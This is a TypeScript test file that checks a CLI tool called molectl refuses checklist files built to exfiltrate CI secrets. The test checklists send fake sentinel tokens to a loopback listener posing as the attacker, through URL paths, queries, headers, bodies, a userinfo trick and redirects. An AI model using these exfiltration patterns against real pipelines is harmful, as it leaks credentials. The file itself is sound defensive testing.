import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startSandbox, type Sandbox } from '../../src/sandbox/start-sandbox.js';
import { runCli } from '../helpers/run-cli.js';

// A checklist is a file in a repository that runs in CI with production secrets in the
// environment. Whoever can edit it must not be able to send them anywhere: every form of
// exfiltration is refused by --validate (file:line:column, exit 2) and by verify before anything
// is sent, and a loopback listener standing in for the attacker receives no sentinel.

const AWS_SENTINEL = 'aws-secret-SENTINEL-9d8c7b6a5f4e';
const RAILWAY_SENTINEL = 'railway-SENTINEL-1a2b3c4d5e6f';

let sandbox: Sandbox;
let listener: Server;
let listenerUrl: string;
let tmp: string;
let received: string[] = [];

beforeAll(async () => {
  sandbox = await startSandbox({ tenants: 1, speed: 'fast' });
  tmp = mkdtempSync(join(tmpdir(), 'molectl-exfil-'));
  listener = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      received.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
      // A redirect to "another place": the HTTP door must not follow it.
      if (req.url?.startsWith('/redirect')) {
        res.writeHead(302, { location: `${listenerUrl}/stolen` });
        res.end();
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"status":"ok"}');
    });
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', () => resolve()));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await sandbox.stop();
  await new Promise<void>((resolve) => listener.close(() => resolve()));
  rmSync(tmp, { recursive: true, force: true });
});

beforeEach(() => {
  received = [];
});

const adminToken = (): string => sandbox.env.CP_ADMIN_API_TOKEN!;
const sentinels = (): string[] => [adminToken(), AWS_SENTINEL, RAILWAY_SENTINEL];

function write(name: string, lines: string[]): string {
  const path = join(tmp, name);
  writeFileSync(path, `${lines.join('\n')}\n`);
  return path;
}

function molectl(args: string[], env: Record<string, string> = {}) {
  return runCli(args, {
    env: {
      ...sandbox.env,
      AWS_SECRET_ACCESS_KEY: AWS_SENTINEL,
      RAILWAY_TOKEN: RAILWAY_SENTINEL,
      MOLECTL_STATE_DIR: tmp,
      ...env,
    },
  });
}

function checklist(vars: string[], request: string[]): string[] {
  return [
    `vars: [${vars.join(', ')}]`,
    'builtins: none',
    'checks:',
    '  - id: steal',
    '    request:',
    ...request.map((l) => `      ${l}`),
    '    conditions: ["[STATUS] == 200"]',
  ];
}

describe('a checklist cannot exfiltrate', () => {
  // [form, file lines, the line:column --validate names]
  const cases: Array<[string, () => string[], string]> = [
    [
      'a secret in the URL path',
      () => checklist(['CP_ADMIN_API_TOKEN'], [`url: "${listenerUrl}/x/\${CP_ADMIN_API_TOKEN}"`]),
      ':6:',
    ],
    [
      'a secret in the query',
      () => checklist(['CP_ADMIN_API_TOKEN'], [`url: "${listenerUrl}/health?t=\${CP_ADMIN_API_TOKEN}"`]),
      ':6:',
    ],
    [
      'a secret in a custom header',
      () =>
        checklist(
          ['AWS_SECRET_ACCESS_KEY'],
          [`url: "${listenerUrl}/h"`, 'headers:', '  X-Debug: "${AWS_SECRET_ACCESS_KEY}"'],
        ),
      ':8:19:',
    ],
    [
      'a secret in the body',
      () =>
        checklist(['RAILWAY_TOKEN'], [`url: "${listenerUrl}/b"`, 'method: POST', 'body: { t: "${RAILWAY_TOKEN}" }']),
      ':8:',
    ],
    [
      'an Authorization header of its own',
      () => checklist([], [`url: "${listenerUrl}/a"`, 'headers:', '  Authorization: "Bearer abc"']),
      ':8:9:',
    ],
    [
      'the declared auth sent to another origin',
      () => checklist([], [`url: "${listenerUrl}/cp/admin/orgs"`, 'auth: cp-admin']),
      ':6:',
    ],
    [
      'the declared auth after a userinfo trick',
      () => checklist([], [`url: "\${CP_URL}@127.0.0.1:${new URL(listenerUrl).port}/x"`, 'auth: cp-admin']),
      ':6:',
    ],
    ['an undeclared variable', () => checklist([], [`url: "${listenerUrl}/u?h=\${HOME}"`]), ':6:'],
  ];

  it.each(cases)('%s: --validate names it with file:line:column, exit 2', async (_form, lines, position) => {
    const file = write('steal.yaml', lines());
    const r = await molectl(['verify', '--validate', file]);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain(`${file}${position}`);
  });

  it.each(cases)('%s: verify refuses before sending anything', async (_form, lines) => {
    const file = write('steal.yaml', lines());
    const r = await molectl(['verify', '--checklist', file]);
    expect(r.code).toBe(2);
    expect(received).toEqual([]);
    for (const s of sentinels()) expect(r.stdout + r.stderr).not.toContain(s);
  });

  it('a secret under an innocent name (by value) stops the run before anything is sent', async () => {
    const file = write('by-value.yaml', checklist(['VERIFY_NOTE'], [`url: "${listenerUrl}/n?note=\${VERIFY_NOTE}"`]));
    expect((await molectl(['verify', '--validate', file])).code).toBe(0);
    const r = await molectl(['verify', '--checklist', file], { VERIFY_NOTE: RAILWAY_SENTINEL });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('check steal: the url would carry a secret molectl holds; nothing was sent');
    expect(received).toEqual([]);
    expect(r.stdout + r.stderr).not.toContain(RAILWAY_SENTINEL);
  });

  it('a redirect is not followed: its target receives nothing', async () => {
    const file = write('redirect.yaml', checklist([], [`url: "${listenerUrl}/redirect"`]));
    const r = await molectl(['verify', '--checklist', file]);
    expect(r.code).toBe(1);
    expect(received.map((r) => r.split(' ')[1]?.split('\n')[0])).toEqual(['/redirect']);
    for (const s of sentinels()) expect(received.join('\n')).not.toContain(s);
  });

  it('auth: cp-admin reaches the CP, and only the CP', async () => {
    const file = write('auth.yaml', [
      'builtins: none',
      'checks:',
      '  - id: admin-orgs',
      '    request: { url: "${CP_URL}/cp/admin/orgs", auth: cp-admin }',
      '    conditions: ["[STATUS] == 200", "[BODY] contains orgs"]',
    ]);
    const r = await molectl(['verify', '--checklist', file, '-o', 'json']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).checks[0]).toMatchObject({ id: 'admin-orgs', status: 'pass' });
    expect(received).toEqual([]);
    expect(r.stdout + r.stderr).not.toContain(adminToken());
  });
});
